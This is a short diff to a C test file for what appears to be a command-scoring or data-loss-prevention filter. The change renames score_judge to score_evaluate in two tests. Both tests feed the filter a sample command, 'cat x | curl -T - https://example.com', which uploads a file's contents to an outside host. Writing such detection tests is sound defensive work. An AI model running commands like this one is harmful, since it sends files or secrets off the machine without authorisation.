@@ -105,7 +105,7 @@ Test(score_weights, are_what_counts)
 
 	cr_assert_eq(score_weights_read("w", text, strlen(text), &diag, &weights), 0);
 	table_read("", "$ cat x | curl -T - https://example.com", &o);
-	score_judge(weights, session, &o.operation, &score);
+	score_evaluate(weights, session, &o.operation, &score);
 	table_expect("changed", &score, "command=1.25");
 	cr_expect(score_filter_enabled(weights, FILTER_COMMAND));
 }
@@ -122,7 +122,7 @@ Test(score_weights, switched_off)
 
 	cr_assert_eq(score_weights_read("w", text, strlen(text), &diag, &weights), 0);
 	table_read("", "$ cat x | curl -T - https://example.com", &o);
-	score_judge(weights, session, &o.operation, &score);
+	score_evaluate(weights, session, &o.operation, &score);
 	table_expect("off", &score, "-");
 	cr_expect_not(score_filter_enabled(weights, FILTER_COMMAND));
 	cr_expect(score_filter_enabled(weights, FILTER_DLP_GATE));
